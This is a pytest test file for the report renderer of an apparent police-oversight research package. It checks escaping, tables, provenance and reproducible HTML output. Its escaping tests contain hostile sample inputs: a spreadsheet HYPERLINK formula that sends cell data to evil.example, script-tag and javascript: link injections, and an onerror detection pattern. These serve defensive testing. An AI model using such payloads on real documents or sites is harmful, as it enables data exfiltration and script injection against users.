"""The report a reviewer reads: findings first, provenance last and collapsed, one
escaping path, tables that read, relative paths, the same bytes on every run."""

from __future__ import annotations

import os
import re
import shutil
import stat

import nbformat
import pandas as pd
import pytest
from conftest import RAW, ROOT, SEEDS

from oversight_research import display, report
from oversight_research.cli import main

HOSTILE = ROOT / "tests" / "data" / "bad" / "hostile-quotes.txt"
ODD_NAME = "odd\n|name <b>.txt"  # legal on Linux: a newline, a pipe and markup in a file name


# --------------------------------------------------------------------------- escaping and tables


def test_markdown_escaping_never_shows_entities_or_backslashes():
    text = display.esc("woman's (bootstrap 95% intervals) <script>")
    assert "&#x27;" not in text and "&lt;script&gt;" in text and "<script" not in text
    assert display.esc("a\nb | c") == "a b \\| c"  # a newline cannot end a Markdown table row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script>',
        "<http://evil.example> and mailto:a@b.example",
        "Mary <b>O'Brien</b> | *Boss* $x^2$ [l](javascript:alert(3)) https://x.example/a_b_c",
    ],
)
def test_markdown_escaping_makes_no_link_and_shows_the_text_as_written(text):
    """A URL in a title or speaker name is text: the renderer's autolinking must not
    turn it into a link (which also swallowed the escaping backslash into the URL)."""
    import html

    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    for template in ("{}", "**{}** — sanction"):
        rendered = markdown2html_mistune(template.format(display.esc(text)))
        assert "<a " not in rendered and "<script" not in rendered and "<b>" not in rendered
        visible = html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()
        assert visible == template.replace("**", "").format(text)


def test_html_escaping_is_applied_once_with_paragraph_breaks():
    assert display.html_text("woman's <b>") == "woman&#x27;s &lt;b&gt;"
    assert display.html_text("First.\n\nSecond.\nThird.") == "First.<br><br>Second.<br>Third."
    assert display.html_text("&amp;") == "&amp;amp;"  # text, not markup: shown as typed


def test_shorten_never_cuts_a_word():
    text = "The officer was dismissed without notice after the hearing concluded"
    short = display.shorten(text, 30)
    assert short.endswith("…") and len(short) <= 30
    assert text.startswith(short[:-1]) and text[len(short) - 1] == " "
    assert display.shorten("short", 30) == "short"


def test_tables_left_align_text_keep_breaks_and_escape_once():
    frame = pd.DataFrame(
        {
            "doc_id": [ODD_NAME],
            "quote": ["He said:\n\n“It's <b>wrong</b>.”"],
            "n": [3],
            "score": [0.25],
            "missing": [None],
        }
    )
    html = display.table_html(frame)
    assert '<td class="txt">odd<br>|name &lt;b&gt;.txt</td>' in html
    assert "He said:<br><br>“It&#x27;s &lt;b&gt;wrong&lt;/b&gt;.”" in html and "&amp;lt;" not in html
    assert '<td class="num">3</td>' in html and '<td class="num">0.25</td>' in html
    assert '<td class="txt"></td>' in html and "nan" not in html.lower().replace("name", "")
    assert "text-align:left" in display.TABLE_CSS


def test_review_line_counts_reviewed_and_corrected_rows_and_tables_mark_them():
    frame = pd.DataFrame(
        {"quote": ["<b>a</b>", "b", "c", "d"], "review": ["machine", "confirmed", "corrected", "added"]}
    )
    assert display.review_line(frame) == "3 rows reviewed, 2 corrected (of 4, 1 of them added by a reviewer)."
    assert display.review_line(frame.head(2)) == "1 row reviewed, 0 corrected (of 2)."
    assert display.review_line(frame[["quote"]]) is None  # a table no researcher can correct
    table = display.table_html(frame)
    assert table.count('<tr class="or-corrected">') == 2 and table.count('<tr class="or-confirmed">') == 1
    assert "&lt;b&gt;a&lt;/b&gt;" in table


def test_captions_are_html_escaped_not_markdown_escaped(monkeypatch):
    shown = []
    monkeypatch.setattr(display, "display", shown.append)
    display.show_table(pd.DataFrame({"a": [1]}), caption="Correlation (bootstrap 95% intervals)")
    assert "Correlation (bootstrap 95% intervals)" in shown[0].data and "\\(" not in shown[0].data


# --------------------------------------------------------------------------- the rendered report


def _executed(folder, processed):
    """Two small executed notebooks as papermill leaves them: a parameters cell,
    the injected parameters, and outputs."""
    folder.mkdir()
    paths = []
    for stem, source, injected in (
        ("01_first", "# First section\n\nText.", {"min_precision": "day"}),
        ("02_second", "# Second section", {}),
    ):
        nb = nbformat.v4.new_notebook()
        params = nbformat.v4.new_code_cell(
            'processed_dir = "../x"\nmin_precision = "year"\nmax_rows = 5', id=f"{stem}-p"
        )
        params.metadata["tags"] = ["parameters"]
        inject = nbformat.v4.new_code_cell(f"processed_dir = {str(processed)!r}", id=f"{stem}-i")
        inject.metadata["tags"] = ["injected-parameters"]
        out = nbformat.v4.new_code_cell("print(1)", id=f"{stem}-o")
        out.outputs = [nbformat.v4.new_output("stream", name="stdout", text="one\n")]
        nb.cells = [nbformat.v4.new_markdown_cell(source, id=f"{stem}-m"), params, inject, out]
        nb.metadata["papermill"] = {"parameters": {"processed_dir": str(processed), **injected}}
        path = folder / f"{stem}.ipynb"
        nbformat.write(nb, path)
        paths.append(path)
    return paths


@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    base = tmp_path_factory.mktemp("report")
    raw = base / "raw"
    raw.mkdir()
    shutil.copy(RAW / f"{SEEDS[0]}.txt", raw)
    shutil.copy(HOSTILE, raw)
    shutil.copy(HOSTILE, raw / ODD_NAME)
    assert main(["extract", str(raw), "--out", str(base / "processed"), "--quiet"]) == 0
    executed = _executed(base / "executed", base / "processed")
    old = os.umask(0o002)
    try:
        report.render(executed, base / "one.html", base / "processed", base)
        report.render(executed, base / "two.html", base / "processed", base)
    finally:
        os.umask(old)
    return base


def test_findings_come_first_and_hashes_last_collapsed(rendered):
    html = (rendered / "one.html").read_text(encoding="utf-8")
    findings, contents = html.index('id="Key-findings"'), html.index('id="Contents"')
    hashes = html.index("SHA-256 of every input file")
    assert findings < contents < html.index('id="First-section"') < hashes
    assert re.search(r"<li><strong>Corpus\.</strong> 3 documents read", html)
    assert '<a href="#Corpus-overview">' in html
    assert re.search(r"<li><strong>Review\.</strong> No row has been reviewed by a researcher yet", html)
    details = re.search(r'<details class="input-hashes">(.*?)</details>', html, re.S)
    assert details and "<table" in details.group(1)  # the table is inside the collapsed block
    assert "<details open" not in html
    assert "<title>Police-oversight cases: timelines, outcomes and statements</title>" in html


def test_parameters_of_every_notebook_are_recorded(rendered):
    html = (rendered / "one.html").read_text(encoding="utf-8")
    rows = re.findall(r"<tr><td>(0[12]_\w+)</td><td>(\w+)</td><td><code>(.*?)</code></td></tr>", html)
    rows = [(a, b, c.replace("&quot;", '"')) for a, b, c in rows]
    assert ("01_first", "min_precision", '"day"') in rows  # as given, not the default
    assert ("02_second", "min_precision", '"year"') in rows
    assert ("01_first", "processed_dir", "processed") in rows  # relative to the project


def test_paths_are_shown_relative_to_the_project(rendered):
    html = (rendered / "one.html").read_text(encoding="utf-8")
    assert str(rendered) not in html and "tables in <code>processed</code>" in html
    assert report.display_path(rendered / "processed", rendered) == "processed"
    assert report.display_path("data/processed", rendered) == "data/processed"
    assert report.display_path(os.path.expanduser("~/corpus"), rendered).startswith("~/")


def test_file_names_with_newlines_and_pipes_stay_in_their_cell(rendered):
    html = (rendered / "one.html").read_text(encoding="utf-8")
    assert re.search(r"<td>odd<br/?>\|name &lt;b&gt;</td>", html)  # doc_id = file stem, escaped, in one cell
    assert "odd\n|name" not in html and "<b>.txt" not in html


def test_two_renderings_differ_only_in_the_timestamp(rendered):
    one, two = ((rendered / f"{n}.html").read_text(encoding="utf-8") for n in ("one", "two"))

    def stamp(text):
        return re.sub(r"Generated \d{4}-\d\d-\d\d \d\d:\d\d \w*", "Generated TIME", text)

    assert stamp(one) == stamp(two)
    ids = re.findall(r'id="cell-id=([^"]+)"', one)
    assert "report-title" in ids and "01_first-0" in ids and len(ids) == len(set(ids))


def test_source_date_epoch_makes_the_report_byte_identical(rendered, monkeypatch, tmp_path):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    executed = sorted((rendered / "executed").glob("*.ipynb"))
    a = report.render(executed, tmp_path / "a.html", rendered / "processed", rendered).read_bytes()
    b = report.render(executed, tmp_path / "b.html", rendered / "processed", rendered).read_bytes()
    assert a == b and b"Generated 2023-11-14 22:13 UTC" in a


def test_report_follows_the_umask_and_leaves_no_temp_file(rendered):
    mode = stat.S_IMODE((rendered / "one.html").stat().st_mode)
    assert mode == 0o664
    assert not list(rendered.glob(".*.tmp"))


def test_article_text_in_findings_and_provenance_is_escaped(rendered):
    html = (rendered / "one.html").read_text(encoding="utf-8")
    assert not re.search(r"<script[^>]*>[^<]*alert\(|<img[^>]+onerror", html, re.I)


def test_provenance_prints_the_lock_hash_or_says_there_is_none(tmp_path):
    import hashlib

    from oversight_research import tables

    tables.write_table("articles", tables.to_frame("articles", [{"doc_id": "d", "status": "ok"}]), tmp_path / "t")
    assert "no <code>requirements.lock</code>" in report.provenance(tmp_path / "t", tmp_path, {})
    (tmp_path / "requirements.lock").write_text("pandas==2.2.0\n", encoding="utf-8")
    digest = hashlib.sha256(b"pandas==2.2.0\n").hexdigest()
    assert f"requirements.lock</code> sha256 <code>{digest}</code>" in report.provenance(tmp_path / "t", tmp_path, {})


def test_provenance_names_the_package_code_even_outside_its_checkout(tmp_path):
    """Rendered from a folder that is no git repository (a researcher's own corpus
    folder), the report still says which code and rules made its numbers."""
    import subprocess

    from oversight_research import tables
    from oversight_research.cache import code_fingerprint

    tables.write_table("articles", tables.to_frame("articles", [{"doc_id": "d", "status": "ok"}]), tmp_path / "t")
    html = report.provenance(tmp_path / "t", tmp_path, {})
    assert "<strong>Git commit:</strong> <code>unknown" in html  # the folder rendered from is no repository
    assert code_fingerprint() in html
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=ROOT, capture_output=True, text=True).stdout.strip()
    assert f"commit <code>{head}" in html


def test_an_empty_table_says_it_has_no_rows(monkeypatch):
    shown = []
    monkeypatch.setattr(display, "display", shown.append)
    display.show_table(pd.DataFrame({"doc_id": pd.Series([], dtype="string"), "review": []}))
    assert "<th>doc_id</th>" in shown[0].data and "No rows" in shown[0].data
    display.show_table(pd.DataFrame({"doc_id": ["a"]}))
    assert "No rows" not in shown[1].data


def test_a_report_path_that_is_a_folder_or_cannot_be_written_is_one_line(tmp_path, capsys):
    (tmp_path / "out").mkdir()
    args = ["report", "--processed", str(tmp_path), "--executed", str(tmp_path), "--notebooks", str(ROOT / "notebooks")]
    assert main([*args, "--out", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err
    assert "is a folder" in err and "Traceback" not in err and err.count("\n") == 1
    blocked = tmp_path / "file"
    blocked.write_text("", encoding="utf-8")
    assert main([*args, "--out", str(blocked / "report.html")]) == 2  # its folder is a file
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "Traceback" not in err and err.count("\n") == 1


@pytest.mark.parametrize("path", ["/home/x/my_corpus (v2)/tables", "out/`odd`*dir*", "C:\\data\\tables"])
def test_a_command_in_a_notebook_sentence_shows_verbatim_for_copying(path):
    """A path inside a code span got esc()'s backslashes (``my\\_corpus \\(v2\\)``),
    so the command a reader copied from the report failed."""
    import html

    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    command = f"oversight-research evaluate --tables {path}"
    rendered = markdown2html_mistune(display.md_text("No evaluation found: run {cmd}.", cmd=display.Code(command)))
    (code,) = re.findall(r"<code>(.*?)</code>", rendered)
    assert html.unescape(code).strip() == command


def test_the_notebooks_put_no_escaped_value_inside_a_code_span():
    sources = "".join(c.source for p in sorted((ROOT / "notebooks").glob("*.ipynb")) for c in nbformat.read(p, 4).cells)
    assert not re.search(r"`[^`\n]*\{[a-z_]+\}[^`\n]*`", sources)


def test_a_report_path_that_is_not_html_is_refused_and_left_as_it_was(tmp_path, capsys):
    """``report --out notebooks/00_corpus_overview.ipynb`` (or README.md) wrote
    the HTML over the user's file."""
    mine = tmp_path / "00_corpus_overview.ipynb"
    mine.write_text("{}", encoding="utf-8")
    args = ["report", "--processed", str(tmp_path), "--executed", str(tmp_path), "--notebooks", str(ROOT / "notebooks")]
    assert main([*args, "--out", str(mine)]) == 2
    err = capsys.readouterr().err
    assert "is not an .html file" in err and err.count("\n") == 1
    assert mine.read_text(encoding="utf-8") == "{}"
